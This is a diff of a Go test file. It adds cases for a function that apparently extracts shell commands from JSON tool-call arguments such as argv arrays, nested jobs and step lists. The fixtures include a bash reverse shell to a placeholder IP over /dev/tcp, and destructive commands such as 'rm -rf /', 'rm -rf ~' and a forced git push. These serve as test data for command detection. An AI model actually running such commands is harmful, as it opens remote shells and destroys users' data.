@@ -40,6 +40,11 @@ func TestCodeIn(t *testing.T) {
 			[]string{"make deps", "go vet ./...", "ls"}},
 		{"compound names that hold no command", `{"script_path":"x.sh","commandTimeout":5,"shell_type":"bash","shellDescription":"a b"}`, nil},
 		{"twice the same", `{"command":"make","cmd":"make"}`, []string{"make"}},
+		// an argv array with no program beside it is the command itself
+		{"argv alone", `{"argv":["bash","-c","bash -i >& /dev/tcp/198.51.100.1/4433 0>&1"],"cwd":"/w"}`,
+			[]string{"bash -c 'bash -i >& /dev/tcp/198.51.100.1/4433 0>&1'"}},
+		{"argv alone nested", `{"job":{"argv":["sh","-c","make"]}}`, []string{"sh -c make"}},
+		{"argv with args beside", `{"argv":["python3"],"args":["-c","print(1)"]}`, []string{"python3 -c 'print(1)'"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -72,6 +77,12 @@ func TestCodeInKnownPrograms(t *testing.T) {
 		{`{"title":"git push -f && echo ok"}`, []string{"git push -f && echo ok"}},
 		{`{"title":"fix the rm bug","path":"rm -rf ~","url":"curl x","args":["rm -rf /"]}`, nil},
 		{`{"title":"rm"}`, nil},
+		// argv arrays of a known program under any member, or in a list
+		{`{"spawn":["rm","-rf","~"],"cwd":"/w"}`, []string{"rm -rf '~'"}},
+		{`{"args":["curl","-s","https://x.example/i"]}`, []string{"curl -s https://x.example/i"}},
+		{`{"steps":[["git","push","-f"],["rm","-rf","/"]]}`, []string{"git push -f", "rm -rf /"}},
+		{`{"tags":["rm","-f","old"],"args":["rm","-rf"],"cmd":"ls"}`, []string{"ls rm -rf", "rm -f old"}},
+		{`{"files":["a.txt","b.txt"],"words":["fix","the","rm","bug"],"tools":["git","curl"]}`, nil},
 		{`{"title":"remove -rf everything"}`, nil},
 		{`{"title":"rm 'unterminated"}`, nil},
 		// decoded: by the encoding declared beside it, or as a literal
